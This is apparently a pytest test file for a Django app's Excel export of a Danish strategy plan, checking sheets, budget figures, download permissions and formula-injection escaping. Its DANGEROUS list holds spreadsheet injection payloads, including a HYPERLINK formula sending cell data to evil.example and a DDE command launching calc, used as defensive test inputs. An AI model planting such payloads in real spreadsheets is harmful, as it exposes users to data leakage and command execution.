"""Leadership downloads the plan as an Excel workbook: a sheet per pejlemærke with the actions,
their status, owners and notes, and a sheet per key-figure table. Nothing in it is a formula."""

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from reporting.exporters.plan import PlanXlsxExporter
from strategy.models import Action, KeyFigureRow, KeyFigureTable, ProgressNote

pytestmark = pytest.mark.django_db

DANGEROUS = ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"klik\")", "+1+2", "-2+3", "@SUM(A1:A2)", "\t=1+1",
             "=cmd|' /C calc'!A0"]


def workbook(plan):
    return load_workbook(io.BytesIO(PlanXlsxExporter(plan).render().content))


def rows(sheet):
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


@pytest.fixture
def budget(world):
    table = KeyFigureTable.objects.create(plan=world.plan, order=0, slug="budget", title="Foreløbigt budget 2022",
                                          unit_note="tilnærmet brutto, 1.000 kr.",
                                          columns=[{"key": "2022", "label": "2022"}])
    KeyFigureRow.objects.create(table=table, order=0, label="Løn", values=[62612478])
    KeyFigureRow.objects.create(table=table, order=1, label="Centralbibliotekstilskud", values=[-8010657])
    KeyFigureRow.objects.create(table=table, order=2, label="I alt", values=[54601821], is_total=True)
    return table


def test_a_sheet_per_pejlemaerke_with_status_owner_and_notes(world, budget):
    book = workbook(world.plan)
    assert book.sheetnames == ["Oversigt", "Service", "Partnerskaber", "Foreløbigt budget 2022", "Nøgletal til test"]
    service = rows(book["Service"])
    assert service[0][:5] == ["Nr.", "Handling", "Status", "Ansvarlig enhed", "Ansvarlig"]
    first = service[1]
    assert first[1] == "OBB afvikler et tværgående værtskabskursus"
    assert first[2] == "Planlagt"
    assert first[3] == str(world.team_a)
    assert first[4] == world.mia.get_full_name()
    assert "Kurset er planlagt." in first[8] and world.mia.get_full_name() in first[8]
    assert rows(book["Partnerskaber"])[1][4] == world.otto.get_full_name()


def test_key_figures_stay_numbers(world, budget):
    sheet = rows(workbook(world.plan)["Foreløbigt budget 2022"])
    assert sheet[0][0] == "Foreløbigt budget 2022 (tilnærmet brutto, 1.000 kr.)"
    assert ["Løn", 62612478] in sheet
    assert ["Centralbibliotekstilskud", -8010657] in sheet
    assert ["I alt", 54601821] in sheet


def test_text_that_looks_like_a_formula_is_written_as_text(world, budget):
    for index, text in enumerate(DANGEROUS):
        action = Action.objects.create(plan=world.plan, pejlemaerke=world.service, order=10 + index, text=text)
        ProgressNote.objects.create(action=action, author=world.lea, date="2023-05-01", text=text)
    KeyFigureRow.objects.create(table=budget, order=9, label="=1+1", values=[1])
    book = workbook(world.plan)
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    values = {cell.value for cell in cells}
    for text in DANGEROUS:
        assert text in values
    assert "=1+1" in values
    numbers = [cell.value for cell in cells if isinstance(cell.value, int)]
    assert -8010657 in numbers


def test_only_leadership_downloads_the_workbook(world, login):
    url = reverse("reporting:plan_download", kwargs={"year": 2023, "fmt": "xlsx"})
    response = login(world.lea).get(url)
    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="det-goer-vi-2023.xlsx"'
    load_workbook(io.BytesIO(response.content))
    for person in (world.alice, world.mia, world.hanne, world.adam):
        assert login(person).get(url).status_code == 403
    assert login(world.lea).get(url.replace("xlsx", "docx")).status_code == 404
